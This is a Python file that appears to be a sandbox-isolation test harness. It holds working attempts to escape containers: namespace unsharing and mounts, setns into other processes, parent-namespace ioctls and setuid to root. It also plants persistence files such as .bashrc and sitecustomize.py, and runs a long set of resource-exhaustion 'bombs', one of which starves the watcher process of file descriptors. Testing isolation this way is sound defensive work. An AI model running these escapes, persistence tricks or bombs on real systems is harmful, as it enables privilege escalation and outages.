        _nested(_NEWNS | _NEWIPC | _NEWCGROUP | _NEWPID)
        place = tempfile.mkdtemp(dir="/tmp")
        _mount("/dev/vda" if kind == "ext4" else "none", place, kind)
        if kind == "proc":
            return _reach(given, f"{place}/1/root") or _written(f"{place}/sys/kernel/core_pattern")
        if kind in ("devpts", "mqueue"):
            names = [one for one in os.listdir(place) if one != "ptmx"]
            return f"mounted {kind}, which shows {names}" if names else None
        if kind == "cgroup2":
            os.mkdir(f"{place}/left-by-a-program")
            os.rmdir(f"{place}/left-by-a-program")
        return f"mounted {kind}"

    _way(f"unshare, then mount {_kind}", _file_system)


@_in_nested("unshare, then fsopen and move_mount over the system")
def _new_mount(given: Given) -> object:
    made = _call("fsopen", b"ext4", 0)
    _call("fsconfig", made, 1, b"source", b"/dev/vda", 0)
    _call("fsconfig", made, 6, None, None, 0)
    tree = _call("fsmount", made, 0, 0)
    _call("move_mount", tree, b"", -100, b"/tmp", 4)
    return _reach(given, "/tmp")


@_leaves("setns to namespaces of others", is_harmless=False)
def _setns(given: Given) -> object:
    own = {name: os.readlink(f"/proc/self/ns/{name}") for name in os.listdir("/proc/self/ns")}
    with suppress(OSError):
        _nested(0)
    for pid in [1, *given["pids"]]:
        for name in ("user", "mnt", "pid", "ipc", "net", "uts", "cgroup", "time"):
            with suppress(OSError):
                opened = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
                if os.readlink(f"/proc/{pid}/ns/{name}") == own.get(name):
                    continue
                _done(_libc.setns(opened, 0))
                return f"entered {name} of {pid}"
    return None


@_leaves("the parent user namespace by ioctl", is_harmless=False)
def _parent_namespace(given: Given) -> object:
    for name in ("user", "pid", "mnt"):
        opened = os.open(f"/proc/self/ns/{name}", os.O_RDONLY)
        for request in (0xB701, 0xB702):  # NS_GET_USERNS, NS_GET_PARENT
            with suppress(OSError):
                above = fcntl.ioctl(opened, request)
                _done(_libc.setns(above, 0))
                return f"entered above {name}"
    return None


@_leaves("more ids in a nested user namespace")
def _more_ids(given: Given) -> object:
    _done(_libc.unshare(_NEWUSER))
    for text in ("0 0 65536", "0 0 1\n1 1 65535", f"0 {1 << 30} 2"):
        with suppress(OSError), open("/proc/self/uid_map", "w") as file:
            file.write(text)
            file.flush()
            return f"mapped {text!r}"
    return None


@_leaves("rights after exec or prctl", is_harmless=False)
def _capabilities(given: Given) -> object:
    status = _read("/proc/self/status").decode()
    found = {
        name: int(text, 16) for name, text in re.findall(r"Cap(Eff|Prm|Inh|Amb):\s+(\w+)", status)
    }
    return f"holds {found}" if any(found.values()) else None


@_leaves("ids of root by setuid", is_harmless=False)
def _setids(given: Given) -> object:
    for change in (os.setuid, os.seteuid, os.setgid):
        with suppress(OSError):
            change(0)
            return "is root"
    with suppress(OSError):
        os.setgroups([0])
        return "is in root's group"
    return None


@_leaves("what is left for the next start")
def _left_for_next(given: Given) -> object:
    """Leave what a shell, a loader, Python or git of a next start might take from a home."""
    target = f"{given['outside']}/by-next-start"
    for name in (
        ".bashrc",
        ".profile",
        ".bash_env",
        "sitecustomize.py",
        "usercustomize.py",
        "json.py",
        ".pythonrc",
    ):
        with suppress(OSError), open(f"{_scratch()}/{name}", "w") as file:
            text = f"open({target!r}, 'w')" if name.endswith("py") else f"touch {target}"
            file.write(text + "\n")
    with suppress(OSError):
        os.symlink(given["outside"], f"{_scratch()}/answer.txt")
    return None  # `wall_rooms` sees what became of it


# --- bombs ------------------------------------------------------------------------------------


def _bomb(name: str) -> Callable[[_Run], _Run]:
    return lambda run: _way(name, run, "bomb")


def _hold(step: Callable[[], int], given: Given) -> NoReturn:
    """Take more until `most` is held, print how much that is, and keep it for a while."""
    held = 0
    while held < given["most"]:
        held += step()
        print(held, flush=True)
    time.sleep(2)
    print("kept", flush=True)
    os._exit(0)


def _fill(file: int, mebibytes: int = 16) -> int:
    for _ in range(mebibytes):
        os.write(file, b"x" * _MIB)
    return mebibytes


_kept: list[Any] = []


def _touched(mapping: mmap.mmap) -> mmap.mmap:
    _kept.append(mapping)
    for place in range(0, len(mapping), 4096):
        mapping[place] = 1
    return mapping


@_bomb("private memory")
def _private(given: Given) -> object:
    _hold(
        lambda: (
            len(_touched(mmap.mmap(-1, 16 * _MIB, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))) // _MIB
        ),
        given,
    )


@_bomb("private memory of a process that nobody may look into")
def _undumpable_private(given: Given) -> object:
    _libc.prctl(4, 0, 0, 0, 0)
    return _private_of_children(given)


@_bomb("shared memory")
def _shared(given: Given) -> object:
    _hold(lambda: len(_touched(mmap.mmap(-1, 16 * _MIB))) // _MIB, given)


@_bomb("shared memory that is no longer mapped")
def _dropped(given: Given) -> object:
    def step() -> int:
        _touched(mmap.mmap(-1, 16 * _MIB)).madvise(mmap.MADV_DONTNEED)
        return 16

    _hold(step, given)


@_bomb("memfds")
def _memfds(given: Given) -> object:
    _hold(lambda: _fill(os.memfd_create("x")), given)


@_bomb("memfds of which one page is mapped")
def _memfds_mapped(given: Given) -> object:
    _libc.mmap.restype = ctypes.c_void_p

    def step() -> int:
        file = os.memfd_create("x")
        _fill(file)
        _libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file, ctypes.c_long(0))
        os.close(file)
        return 16

    _hold(step, given)


@_bomb("memfds in a socket")
def _memfds_sent(given: Given) -> object:
    def step() -> int:
        ends = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        _kept.append(ends)
        file = os.memfd_create("x")
        _fill(file)
        rights = array.array("i", [file])
        ends[0].sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])
        os.close(file)
        return 16

    _hold(step, given)


def _segment() -> int:
    _libc.shmat.restype = ctypes.c_void_p
    segment = _done(_libc.shmget(0, ctypes.c_size_t(16 * _MIB), 0o1600))
    at = _libc.shmat(segment, None, 0)
    ctypes.memset(at, 1, 16 * _MIB)
    _libc.shmdt(ctypes.c_void_p(at))
    return 16


@_bomb("memfds of a process that nobody may look into")
def _undumpable(given: Given) -> object:
    _libc.prctl(4, 0, 0, 0, 0)
    _hold(lambda: _fill(os.memfd_create("x")), given)


@_bomb("memfds while the watcher is kept from opening files")
def _limited_watcher(given: Given) -> object:
    def disturb() -> None:
        limits = [(ctypes.c_uint64 * 2)(most, 1024) for most in (3, 1024)]
        while True:
            for one in limits:
                _libc.prlimit(1, resource.RLIMIT_NOFILE, ctypes.byref(one), None)
                time.sleep(0.02)

    threading.Thread(target=disturb, daemon=True).start()
    _hold(lambda: _fill(os.memfd_create("x")), given)


@_bomb("System V memory")
def _segments(given: Given) -> object:
    _hold(_segment, given)


@_bomb("System V memory in a nested namespace")
def _nested_segments(given: Given) -> object:
    _nested(_NEWIPC)
    _hold(_segment, given)


def _file_in(folder: str) -> int:
    with tempfile.NamedTemporaryFile(dir=folder, delete=False) as file:
        return _fill(file.fileno())


for _folder in ("/tmp", "/run", "/dev/shm", "/var/tmp"):
    _way(f"files in {_folder}", lambda g, at=_folder: _hold(lambda: _file_in(at), g), "bomb")  # type: ignore[misc]


@_bomb("files in a nested tmpfs")
def _nested_files(given: Given) -> object:
    _nested(_NEWNS)
    _mount("none", "/tmp", "tmpfs")
    _hold(lambda: _file_in("/tmp"), given)


@_bomb("deleted files in /tmp")
def _deleted(given: Given) -> object:
    def step() -> int:
        file = tempfile.TemporaryFile(dir="/tmp")  # noqa: SIM115  it stays open
        _kept.append(file)
        return _fill(file.fileno())

    _hold(step, given)


@_bomb("pipes and sockets full of data")
def _buffers(given: Given) -> object:
    def step() -> int:
        total = 0
        while total < _MIB:
            ends = socket.socketpair()
            _kept.append(ends)
            ends[0].setblocking(False)
            ends[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 20)
            with suppress(BlockingIOError):
                while True:
                    total += ends[0].send(b"x" * 65536)
        return total // _MIB

    _hold(step, given)


@_bomb("memory of many small processes")
def _private_of_children(given: Given) -> object:
    def step() -> int:
        ready, done = os.pipe()
        if os.fork() == 0:
            _touched(mmap.mmap(-1, 8 * _MIB, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS))
            os.write(done, b"+")
            time.sleep(SECONDS)
            os._exit(0)
        os.read(ready, 1)
        for end in (ready, done):
            os.close(end)
        return 8

    _hold(step, given)


@_bomb("processes")
def _forks(given: Given) -> object:
    def step() -> int:
        if os.fork() == 0:
            time.sleep(SECONDS)
            os._exit(0)
        return 1

    _hold(step, given)


@_bomb("threads")
def _threads(given: Given) -> object:
    threading.stack_size(64 * 1024)

    def step() -> int:
        threading.Thread(target=time.sleep, args=(SECONDS,), daemon=True).start()
        return 1

    _hold(step, given)


@_bomb("one large file")
def _large_file(given: Given) -> object:
    file = os.open(f"{_scratch()}/large", os.O_CREAT | os.O_RDWR)
    _hold(lambda: _fill(file, 4), given)


@_bomb("many files")
def _many_files(given: Given) -> object:
    _hold(lambda: sum(_fill_small(f"{_scratch()}/n{time.monotonic_ns()}") for _ in range(4)), given)


def _fill_small(folder: str) -> int:
    os.mkdir(folder)
    for number in range(64):
        with open(f"{folder}/{number}", "wb") as file:
            file.write(b"x" * (1 << 14))
    return 1


@_bomb("files in deep folders")
def _deep(given: Given) -> object:
    os.chdir(_scratch())

    def step() -> int:
        for _ in range(20):
            os.mkdir("d" * 200)
            os.chdir("d" * 200)
        with open("file", "wb") as file:
            return _fill(file.fileno(), 4)

    _hold(step, given)


@_bomb("deleted files on the disk")
def _deleted_disk(given: Given) -> object:
    def step() -> int:
        file = tempfile.TemporaryFile(dir=_scratch())  # noqa: SIM115  it stays open
        _kept.append(file)
        return _fill(file.fileno(), 4)

    _hold(step, given)


@_bomb("a sparse file that is filled")
def _sparse(given: Given) -> object:
    file = os.open(f"{_scratch()}/sparse", os.O_CREAT | os.O_RDWR)
    os.truncate(file, 40 * _MIB)
    _hold(lambda: _allocated(file), given)


def _allocated(file: int) -> int:
    others = os.open(f"{_scratch()}/sparse-{time.monotonic_ns()}", os.O_CREAT | os.O_RDWR)
    os.posix_fallocate(others, 0, 4 * _MIB)
    os.pwrite(file, b"x", _MIB)
    return 4


@_bomb("files that a folder without rights hides")
def _hidden(given: Given) -> object:
    def step() -> int:
        folder = tempfile.mkdtemp(dir=_scratch())
        with open(f"{folder}/file", "wb") as file:
            size = _fill(file.fileno(), 4)
        os.chmod(folder, 0)
        return size

    _hold(step, given)


if __name__ == "__main__":
    _given = json.loads(sys.argv[1])
    if sys.argv[2:] and WAYS[sys.argv[2]].kind == "bomb":
        WAYS[sys.argv[2]].run(_given)
    else:
        print(json.dumps(attempts(_given, sys.argv[2:])))
